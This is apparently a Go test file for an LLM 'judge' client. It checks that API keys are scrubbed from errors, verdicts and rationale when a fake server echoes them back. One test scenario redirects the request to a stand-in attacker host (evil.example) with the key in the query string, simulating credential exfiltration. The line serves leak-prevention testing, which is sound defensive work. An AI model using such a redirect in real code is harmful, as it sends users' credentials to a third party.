package judge

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// TestKeysNeverLeak plants each provider's key, makes the fake API echo it
// back everywhere it can (error messages, plain-text bodies, verdict text,
// rationale, headers of a redirect) and greps every error and verdict for
// it, and for its first 16 characters.
func TestKeysNeverLeak(t *testing.T) {
	// Credential-shaped keys are also caught by netguard.RedactText; keys
	// of no known shape test the judge's own scrubbing.
	for _, keys := range [][2]string{
		{testAnthropicKey, testOpenAIKey},
		{"PLANTEDanthropicQ7f3a9c2e1b4d5e6f", "PLANTEDopenaiZ0a1b2c3d4e5f6a7b8c"},
	} {
		t.Run(keys[0][:10], func(t *testing.T) { keysNeverLeak(t, keys[0], keys[1]) })
	}
}

func keysNeverLeak(t *testing.T, anthropicKey, openAIKey string) {
	type setup struct {
		name string
		key  string
		newJ func(t *testing.T, f *fakeAPI) Judge
		ok   func(text string) map[string]any
		fail func(msg string) map[string]any
	}
	setups := []setup{
		{"anthropic", anthropicKey,
			func(t *testing.T, f *fakeAPI) Judge {
				base, client := f.official(anthropicHost)
				j, err := New(Config{Model: "claude-sonnet-4-6", BaseURL: base, Getenv: env(EnvAnthropicKey, anthropicKey), Client: client})
				if err != nil {
					t.Fatal(err)
				}
				return noWait(j)
			},
			func(text string) map[string]any { return anthropicAnswer(text, 10, 10) },
			func(msg string) map[string]any { return anthropicError("authentication_error", msg) }},
		{"openai", openAIKey,
			func(t *testing.T, f *fakeAPI) Judge {
				base, client := f.official(openAIHost)
				j, err := New(Config{Model: "gpt-4o", BaseURL: base, Getenv: env(EnvOpenAIKey, openAIKey), Client: client})
				if err != nil {
					t.Fatal(err)
				}
				return noWait(j)
			},
			func(text string) map[string]any { return openAIAnswer(text, 10, 10) },
			func(msg string) map[string]any { return openAIError("invalid_request_error", "invalid_api_key", msg) }},
		{"openai-compatible", openAIKey,
			func(t *testing.T, f *fakeAPI) Judge {
				j, err := New(Config{Model: "local", BaseURL: f.URL, Getenv: env(EnvJudgeKey, openAIKey), Client: f.Client()})
				if err != nil {
					t.Fatal(err)
				}
				return noWait(j)
			},
			func(text string) map[string]any { return openAIAnswer(text, 10, 10) },
			func(msg string) map[string]any { return openAIError("invalid_request_error", "invalid_api_key", msg) }},
	}
	for _, s := range setups {
		echoKey := func(r *http.Request) string {
			if k := r.Header.Get("X-Api-Key"); k != "" {
				return k
			}
			return strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		}
		scenarios := []struct {
			name    string
			respond func(w http.ResponseWriter, r *http.Request)
		}{
			{"401 echoing the key", func(w http.ResponseWriter, r *http.Request) {
				writeJSON(w, 401, s.fail("Incorrect API key provided: "+echoKey(r)+". Find your key at https://example.com/keys?key="+echoKey(r)))
			}},
			{"429 echoing the key", func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Retry-After", "3")
				writeJSON(w, 429, s.fail("rate limited for key "+echoKey(r)))
			}},
			{"500 plain text with the key", func(w http.ResponseWriter, r *http.Request) {
				w.WriteHeader(500)
				_, _ = fmt.Fprintf(w, "upstream said: Authorization: Bearer %s", echoKey(r))
			}},
			{"long error cutting the key in two", func(w http.ResponseWriter, r *http.Request) {
				writeJSON(w, 400, s.fail(strings.Repeat("a", 180)+" "+echoKey(r)+" tail"))
			}},
			{"malformed answer containing the key", func(w http.ResponseWriter, r *http.Request) {
				writeJSON(w, 200, s.ok("my key is "+echoKey(r)+" and I refuse to answer"))
			}},
			{"verdict rationale containing the key", func(w http.ResponseWriter, r *http.Request) {
				writeJSON(w, 200, s.ok(`{"supported": true, "confidence": 0.9, "rationale": "the key `+echoKey(r)+` appears"}`))
			}},
			{"confidence field containing the key", func(w http.ResponseWriter, r *http.Request) {
				writeJSON(w, 200, s.ok(`{"supported": true, "confidence": "`+echoKey(r)+`"}`))
			}},
			{"redirect to a URL with the key", func(w http.ResponseWriter, r *http.Request) {
				http.Redirect(w, r, "https://evil.example/?k="+echoKey(r), http.StatusFound)
			}},
			{"undecodable success body with the key", func(w http.ResponseWriter, r *http.Request) {
				w.WriteHeader(200)
				_, _ = w.Write([]byte("not json " + echoKey(r)))
			}},
		}
		for _, sc := range scenarios {
			t.Run(s.name+"/"+sc.name, func(t *testing.T) {
				f := newFakeAPI(t, func(w http.ResponseWriter, r *http.Request, req recorded) { sc.respond(w, r) })
				v, err := s.newJ(t, f).Judge(context.Background(), "claim", "source")
				var je *Error
				errors.As(err, &je)
				dumps := []string{fmt.Sprintf("%+v", v), fmt.Sprintf("%#v", v), v.Rationale}
				if err != nil {
					dumps = append(dumps, err.Error(), fmt.Sprintf("%v", err), fmt.Sprintf("%#v", je))
				}
				for _, d := range dumps {
					if strings.Contains(d, s.key) || strings.Contains(d, s.key[:16]) {
						t.Fatalf("key leaked: %s", d)
					}
				}
				if f.last(t).Header.Get("X-Api-Key")+f.last(t).Header.Get("Authorization") == "" {
					t.Fatal("the fake never received the key, so the test proves nothing")
				}
			})
		}
	}
}

func TestTransportErrorWithKeyIsScrubbed(t *testing.T) {
	const key = "PLANTEDopenaiZ0a1b2c3d4e5f6a7b8c"
	client := &http.Client{Transport: roundTripFunc(func(r *http.Request) (*http.Response, error) {
		return nil, fmt.Errorf("proxy rejected header Authorization: %s", r.Header.Get("Authorization"))
	})}
	j, err := New(Config{Model: "gpt-4o", Getenv: env(EnvOpenAIKey, key), Client: client})
	if err != nil {
		t.Fatal(err)
	}
	_, err = j.Judge(context.Background(), "c", "s")
	if err == nil || strings.Contains(err.Error(), key) || strings.Contains(err.Error(), key[:16]) {
		t.Errorf("error %v", err)
	}
}

func TestSafeDetail(t *testing.T) {
	key := "PLANTEDx0123456789abcdefghijKEY"
	for _, in := range []string{
		"plain " + key,
		strings.Repeat("x", maxDetail-10) + key, // key cut by the limit
		strings.Repeat("x", maxDetail-4) + key,
		"line1\nline2\t" + key + "\r\n",
		"https://user:pass@example.com/?token=abc " + key,
	} {
		out := safeDetail(in, key)
		if strings.Contains(out, key) || strings.Contains(out, key[:8]) {
			t.Errorf("safeDetail(%q) = %q keeps (part of) the key", in, out)
		}
		if strings.ContainsAny(out, "\n\r\t") || len(out) > maxDetail+len("…") {
			t.Errorf("safeDetail(%q) = %q", in, out)
		}
		if strings.Contains(out, "pass@") || strings.Contains(out, "token=abc") {
			t.Errorf("safeDetail(%q) = %q keeps URL secrets", in, out)
		}
	}
}
